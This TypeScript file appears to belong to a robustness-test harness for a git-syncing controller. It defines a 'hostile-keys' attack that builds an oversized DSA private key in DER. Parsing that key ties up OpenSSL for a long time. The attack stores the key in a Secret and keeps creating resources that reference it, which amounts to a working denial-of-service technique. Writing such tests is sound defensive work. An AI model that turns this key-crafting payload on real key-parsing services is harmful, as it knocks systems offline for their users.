import { randomBytes } from 'node:crypto'
import { gitCommit } from '../../../test/harness/installation.ts'
import type { Attack } from '../attack.ts'
import { breathe } from '../attack.ts'

const EVERY_MS = 2_000
/** id-dsa of RFC 3279, section 2.3.2. */
const DSA = Buffer.from('2a8648ce380401', 'hex')
const [PRIME_BYTES, ORDER_BYTES, EXPONENT_BYTES] = [7_700, 20, 4_000]

/** Private keys that take OpenSSL most of a minute to read, in Secrets of resources with an SSH address. */
export const hostileKeys: Attack = {
  name: 'hostile-keys',
  secrets: ['key'],
  async run({ create }, signal) {
    await create({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'key' },
      stringData: { 'ssh-privatekey': dsaKey(), known_hosts: '[localhost]:1 ssh-ed25519 AAAA' },
    })
    let created = 0
    while (!signal.aborted) {
      const credentials = { secretName: 'key', privateKeyKey: 'ssh-privatekey' }
      const spec = { credentials, branch: `b-${created}` }
      const status = await create(gitCommit(`key-${created}`, 'ssh://git@localhost:1/a/b.git', spec)).catch(
        () => 0,
      )
      if (status === 201) created += 1
      await breathe(signal, EVERY_MS)
    }
    return `${created} resources with a DSA key of ${PRIME_BYTES * 8} bits`
  },
}

/** A PKCS#8 key (RFC 5208) whose public half has to be computed to read it: g^x mod p. */
function dsaKey(): string {
  const parameters = sequence(integer(odd(PRIME_BYTES)), integer(odd(ORDER_BYTES)), integer(Buffer.from([2])))
  const algorithm = sequence(field(0x06, DSA), parameters)
  const key = field(0x04, integer(odd(EXPONENT_BYTES)))
  const lines =
    sequence(integer(Buffer.from([0])), algorithm, key)
      .toString('base64')
      .match(/.{1,64}/g) ?? []
  return `-----BEGIN PRIVATE KEY-----\n${lines.join('\n')}\n-----END PRIVATE KEY-----\n`
}

function odd(size: number): Buffer {
  const bytes = randomBytes(size)
  bytes[0] = 0x7f
  bytes[size - 1] = (bytes[size - 1] ?? 0) | 1
  return bytes
}

function sequence(...parts: readonly Buffer[]): Buffer {
  return field(0x30, Buffer.concat(parts))
}

function integer(bytes: Buffer): Buffer {
  return field(0x02, bytes)
}

/** One value in DER. */
function field(tag: number, content: Buffer): Buffer {
  const { length } = content
  const size = length < 128 ? [length] : length < 256 ? [0x81, length] : [0x82, length >> 8, length & 255]
  return Buffer.concat([Buffer.from([tag, ...size]), content])
}
